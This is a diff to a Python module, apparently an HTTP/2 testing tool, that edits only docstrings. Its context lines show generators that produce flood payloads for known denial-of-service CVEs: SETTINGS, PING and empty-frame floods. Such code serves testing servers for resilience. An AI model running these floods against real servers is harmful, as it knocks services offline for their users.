@@ -31,7 +31,7 @@ NOTHING = b"\0\0\0\0\0"
 
 
 def numbers() -> Iterator[int]:
-    """Stream numbers."""
+    """Return the stream numbers."""
     return itertools.count(1, 2)
 
 
@@ -65,12 +65,12 @@ def continuation_flood() -> Iterator[bytes]:
 
 
 def settings_flood() -> Iterator[bytes]:
-    """CVE-2019-9515."""
+    """SETTINGS flood (CVE-2019-9515)."""
     yield from itertools.repeat(f.settings({f.SETTING_INITIAL_WINDOW_SIZE: 1000}) * 10)
 
 
 def ping_flood() -> Iterator[bytes]:
-    """CVE-2019-9512."""
+    """PING flood (CVE-2019-9512)."""
     yield from itertools.repeat(frame(f.PING, 0, 0, bytes(8)) * 100)
 
 
@@ -80,7 +80,7 @@ def priority_flood() -> Iterator[bytes]:
 
 
 def empty_frames() -> Iterator[bytes]:
-    """CVE-2019-9518."""
+    """Flood of empty frames (CVE-2019-9518)."""
     yield frame(f.HEADERS, f.END_HEADERS, 1, REQUEST)
     yield from itertools.repeat(frame(f.DATA, 0, 1) * 100)
 
